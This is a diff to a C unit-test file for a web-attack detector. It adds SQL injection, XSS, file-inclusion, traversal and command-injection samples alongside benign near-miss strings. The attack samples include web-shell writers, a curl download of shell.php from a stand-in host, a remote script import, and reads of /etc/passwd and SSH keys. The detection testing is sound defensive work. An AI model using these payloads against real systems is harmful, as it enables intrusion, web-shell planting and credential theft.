@@ -108,6 +108,11 @@ static void scan_splits_and_decodes(void **state)
     assert_int_equal(scan("GET /view?file=../../../etc/passwd HTTP/1.1"), TLD_WEBATTACK_TRAVERSAL);
     assert_int_equal(scan("http://example.com/view?file=..%2F..%2F..%2Fetc%2Fpasswd"),
                      TLD_WEBATTACK_TRAVERSAL);
+    /* exec('ls') reads as T-SQL too: a process function with a command is command injection */
+    assert_int_equal(scan("/x?q=%27%3Bexec%28%27ls%27%29%3B%27") & ~(unsigned)TLD_WEBATTACK_XSS,
+                     TLD_WEBATTACK_CMDI);
+    assert_int_equal(scan("/x?q=1;exec%20xp_cmdshell%20'dir'") & TLD_WEBATTACK_SQLI,
+                     TLD_WEBATTACK_SQLI);
     /* the path itself */
     assert_int_equal(scan("/static/..%2f..%2f..%2fetc/passwd"), TLD_WEBATTACK_TRAVERSAL);
     assert_int_equal(scan("/docs/../docs/api/index.html"), 0);
@@ -179,6 +184,30 @@ static void scan_long_and_odd_input(void **state)
 static void sqli_attacks(void **state)
 {
     static const char *const bad[] = {
+        /* no quote to close: a condition or clause the query continues with */
+        " and 7339 like 7339;--",
+        "+AND+2>1;--",
+        "3686 or true",
+        "0\t||\t1;--",
+        " OR x=x",
+        " group by 1 having 1=1--",
+        "\nhaving\ncount(*)>0-- -",
+        "x order by 4-- -",
+        "ORDER BY 1",
+        "  group by  1,2,3,4,5",
+        /* tool boundaries and look-alike quotes */
+        "1` AND 4415=4415-- -",
+        "1);+InseRT+Into+users+values(1,'a','b')--",
+        "admin\xe2\x80\x99--",
+        "\xef\xbc\x87 OR \xef\xbc\x87"
+        "1\xef\xbc\x87=\xef\xbc\x87"
+        "1",
+        "\xca\xbc OR 1=1--",
+        ";+CREATE+USER+x+IDENTIFIED+BY+'y'#",
+        " OR 1--",
+        "  group by  users.id  HAVING  1=1-- -",
+        ";\ncall sys.exec('id')--",
+        "(4955=4955)",
         "1' or '1'='1",
         "x' OR 'z'='z' --",
         "admin'--",
@@ -225,6 +254,25 @@ static void sqli_attacks(void **state)
 static void sqli_benign(void **state)
 {
     static const char *const ok[] = {
+        /* near misses of the forms above */
+        "Singin' in the Rain",
+        "Singin\xe2\x80\x99 in the Rain",
+        "Ocean\xe2\x80\x99s 11 or Ocean\xe2\x80\x99s 12",
+        "Don\xe2\x80\x99t Stop Me Now",
+        "group by 2",
+        "group by week",
+        "order by price desc",
+        "true or false",
+        "1 or 2",
+        "rock and roll or true blue",
+        "Disney+ and Hulu",
+        "C++ or Java?",
+        "me+tag@example.com",
+        "`code` sample",
+        "`--disable-readline' was fixed",
+        "(5 > 3)",
+        "or 1 more",
+        "group by name having fun",
         "O'Reilly",
         "rock and roll",
         "select a size",
@@ -299,6 +347,24 @@ static void sqli_long_values(void **state)
 static void xss_attacks(void **state)
 {
     static const char *const bad[] = {
+        /* script without tags */
+        "'-top['ale'+'rt'](1)-'",
+        "';self[/pro/.source+/mpt/.source](origin)//",
+        "'}this['prompt'](origin){'",
+        "';[1].find(alert);//",
+        "\"}Promise.resolve(1).then(prompt){\"",
+        "';setTimeout(confirm,0,1)//",
+        "';valueOf=alert;window+'';//",
+        "\";onerror=alert;throw 1//",
+        "';\\u{61}lert(1)//",
+        "'-pri\\u{6e}t(1)//",
+        "\"}import('//x.example.com/a.js'){\"",
+        "';a=prompt,a()//",
+        "{onerror=alert}throw 1",
+        "alert.call(null,1)",
+        "window['alert'](1)",
+        "top[8680439..toString(30)](1)",
+        "(alert)(1)",
         "<script>alert(1)</script>",
         "<ScRiPt src=//evil.example/x.js></script>",
         "<img src=x onerror=alert(document.domain)>",
@@ -335,6 +401,19 @@ static void xss_attacks(void **state)
 static void xss_benign(void **state)
 {
     static const char *const ok[] = {
+        /* near misses of the forms above */
+        "Code Red (Alert)",
+        "print(hello)",
+        "confirm(ed) booking",
+        "status=alert",
+        "[1] find alert",
+        "Tom's [alert] list",
+        "it's {this} one",
+        "a=alert, b(1)",
+        "top[10] (movies)",
+        "(Alert) (band)",
+        "alert.call center",
+        "Tax: Import (EU)",
         "a < b > c",
         "<3 you",
         "x<y and y>z",
@@ -389,6 +468,32 @@ static void traversal_cases(void **state)
     assert_false(TRAV("//cdn.example.com/img/banner.jpg"));
     assert_false(TRAV("https://example.com/a/b?c=d"));
     assert_false(TRAV("C:\\fakepath\\photo.jpg"));
+    /* file inclusion without climbing: system folders, secret files, stream wrappers */
+    assert_true(TRAV("/etc/passwd"));
+    assert_true(TRAV("//etc//nginx//nginx.conf"));
+    assert_true(TRAV("/proc/self/environ"));
+    assert_true(TRAV("/var/log/apache2/access.log"));
+    assert_true(TRAV("C:\\Windows\\win.ini"));
+    assert_true(TRAV("c:/inetpub/wwwroot/web.config"));
+    assert_true(TRAV("%SYSTEMROOT%\\system32\\drivers\\etc\\hosts"));
+    assert_true(TRAV("/home/ubuntu/.ssh/id_rsa"));
+    assert_true(TRAV("php://filter/convert.base64-encode/resource=index.php"));
+    assert_true(TRAV("PHP://input"));
+    assert_true(TRAV("phar://uploads/a.jpg/x"));
+    assert_true(TRAV("data://text/plain;base64,PD9waHA="));
+    assert_true(TRAV("expect://id"));
+    assert_true(TRAV("\xf0\x80\x80\xae\xf0\x80\x80\xae/etc/x"));
+    assert_true(TRAV("C:\\MySQL\\data\\mysql\\user.MYD"));
+    assert_true(TRAV("/tmp/sess_abc123"));
+    assert_false(TRAV("/tmp/upload.png"));
+    assert_false(TRAV("/etc"));
+    assert_false(TRAV("/var/folders"));
+    assert_false(TRAV("/account/settings"));
+    assert_false(TRAV("C:\\Users\\Public\\file.txt"));
+    assert_false(TRAV("php.ini"));
+    assert_false(TRAV("learn php: the basics"));
+    assert_false(TRAV("data: 3 rows"));
+    assert_false(TRAV("/docs/config.php"));
     /* request paths: only climbing above the root and encoded tricks */
     assert_true(TRAVP("/static/../../etc/passwd"));
     assert_true(TRAVP("/a/..\xc0\xaf..\xc0\xaf"));
@@ -411,6 +516,38 @@ static void cmdi_cases(void **state)
         "';system('id')",
         "${IFS}cat${IFS}/etc/passwd",
         "& dir c:\\",
+        /* shell grammar without the classic forms */
+        "x\r/usr/bin/id",
+        "a b\nuname -a#",
+        ";w'h'o'am'i",
+        "|c${u}at /etc/passwd",
+        "&&wh\\oami",
+        ";cat$IFS$9/etc/passwd",
+        "${PATH:0:1}etc${PATH:0:1}passwd",
+        "|/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
+        ";{cat,/etc/passwd}",
+        "<(uname -a)",
+        "$(printf 'x')",
+        /* Windows commands in any case */
+        "127.0.0.1&IPCONFIG /all",
+        "x|Net User",
+        "'& FINDSTR /si password *.xml",
+        "a\nreg query HKLM\\Software",
+        "1||ver",
+        "127.0.0.1&&net view&",
+        /* process functions and web shells */
+        "__import__('os').system('id')",
+        "require('child_process').exec('ls')",
+        "java.lang.Runtime.getRuntime().exec('id')",
+        "system($_GET['c']);",
+        "echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php",
+        "; echo PD9w | base64 -d > shell.php",
+        "curl -o shell.php http://x.example.com/s.txt",
+        /* a reconnaissance command as the whole value, an echo probe */
+        "uname -a",
+        "ipconfig /all",
+        "ls -la /",
+        "; echo 'vuln'",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         if (!CMDI(bad[i]))
@@ -418,9 +555,38 @@ static void cmdi_cases(void **state)
         assert_true(CMDI(bad[i]));
     }
     static const char *const ok[] = {
-        "Tom & Jerry",    "salt & pepper", "Name & ID", "AT&T",           "cat food",
-        "rm -rf meaning", "Sleep & Relax", "ping pong", "R&D; Q&A",       "echo dot",
-        "Blood & type 2", "a | b",         "ls engine", "dog & cat toys",
+        "Tom & Jerry",
+        "salt & pepper",
+        "Name & ID",
+        "AT&T",
+        "cat food",
+        "rm -rf meaning",
+        "Sleep & Relax",
+        "ping pong",
+        "R&D; Q&A",
+        "echo dot",
+        "Blood & type 2",
+        "a | b",
+        "ls engine",
+        "dog & cat toys",
+        /* near misses of the forms above */
+        "{id}",
+        "user {name}",
+        "Shift & Cmd",
+        "Tom & Ver",
+        "a > b",
+        "price > 5.php",
+        "Save & Type /news",
+        "the system's design",
+        "exec(utive) summary",
+        "R&D; Reg",
+        "I can't 'see' it",
+        "it's o'clock",
+        "$5 {sale}",
+        "/\?\?/",
+        "curl up",
+        "we'd like",
+        "don't 'stop' me",
     };
     for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
         if (CMDI(ok[i]))
